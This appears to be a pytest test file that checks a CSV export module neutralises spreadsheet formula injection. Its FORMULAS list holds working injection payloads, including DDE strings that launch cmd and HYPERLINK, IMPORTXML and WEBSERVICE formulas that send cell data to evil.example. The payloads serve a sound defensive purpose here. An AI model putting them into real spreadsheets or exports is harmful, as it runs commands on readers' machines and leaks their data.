"""What leaves as CSV is a table of data: no cell of it is run by a spreadsheet, and every reader sees the same cells."""

import csv
import io
import time
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guilder.platform.csv import cell, harmless, line, lines

# What is known to be run, or to have been: by Excel, LibreOffice, Google Sheets, and by those that trim or fold first.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u2212 1",
    "\tplain, but Excel eats the tab",
]
# Nothing at their beginning: dangerous to a reader that separates by something else, or that ignores the quotes.
INNER = ["a;=1+1", 'a";=1+1', "a\n=1+1", "a\r\n=1+1", "a\t=1+1", "a|@SUM(1)", "a;  +1", "x\u2028-1"]
STARTS = tuple("=+-@＝＋－＠\u2212\t\r\n")


@pytest.mark.shows("ASVS 1.2.10", "fault H6")
@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert read(cell(text)) == ["'" + text] or read(cell(text))[0].replace("'", "") == text.replace("'", "")
    assert read(cell(text))[0].startswith("'")


@pytest.mark.shows("ASVS 1.2.10", "fault H6")
@pytest.mark.parametrize("text", [*FORMULAS, *INNER])
@pytest.mark.parametrize("separator", list(",;\t|"))
def test_no_reader_finds_a_formula_whatever_it_takes_for_a_separator(text, separator):
    whole = line(["first", text, "last"])
    # The crudest reader of all: it knows no quotes.
    crude = [part.strip(' "') for row in whole.splitlines() for part in row.split(separator)]
    careful = [part for row in csv.reader(io.StringIO(whole, newline=""), delimiter=separator) for part in row]
    for part in [*careful, *(crude if separator != "," else [])]:
        assert not part.lstrip(" \u00a0\ufeff").startswith(STARTS), (part, whole)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Acme Inc.",
        "O'Neill & Sons",
        'say "hello", twice',
        "a - b, c + d = e @ f",
        "jane@acme.example",
        "two\nlines",
        "Größe 東京 🙂",
        "1,234.50",
        "x, -5",
    ],
)
def test_plain_text_comes_back_as_it_was(text):
    assert read(cell(text)) == ([text] if text else [""])


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (True, "true"),
        (0, "0"),
        (-5, "-5"),
        (10**18, "1000000000000000000"),
        (Decimal("-0.0125"), "-0.0125"),
        (Decimal("1E+3"), "1000"),
        (date(2026, 1, 31), "2026-01-31"),
        (datetime(2026, 1, 31, 9, tzinfo=UTC), "2026-01-31T09:00:00Z"),
        (datetime(2026, 1, 31, 9, tzinfo=timezone(timedelta(hours=2))), "2026-01-31T07:00:00Z"),
        ("-5", '"\'-5"'),
    ],
)
def test_a_number_is_a_number_and_text_is_text(value, written):
    assert cell(value) == written


@given(st.lists(st.lists(st.text(max_size=20), min_size=2, max_size=2), max_size=5))
def test_a_table_has_the_rows_it_was_given(rows):
    whole = "".join(lines(["a", "b"], rows))
    found = list(csv.reader(io.StringIO(whole, newline="")))
    assert found == [["a", "b"], *[[harmless(text) for text in row] for row in rows]]


@given(st.text(alphabet=st.sampled_from(list("=+-@;|,\t\r\n '\"a＝\u2028")), max_size=12))
def test_what_is_harmless_is_left_alone(text):
    assert harmless(harmless(text)) in {harmless(text), "'" + harmless(text)}
    assert not harmless(text).startswith(STARTS)


def test_a_long_text_takes_no_longer_than_its_length():
    began = time.monotonic()
    for text in ("\n" * 200_000, " " * 200_000, "; " * 200_000, ";" + " " * 200_000):
        harmless(text)
    assert time.monotonic() - began < 10


def test_a_row_has_as_many_cells_as_the_head():
    with pytest.raises(AssertionError):
        list(lines(["a", "b"], [["only one"]]))


def read(written: str) -> list[str]:
    return next(iter(csv.reader(io.StringIO(written + "\r\n", newline=""))), [""])
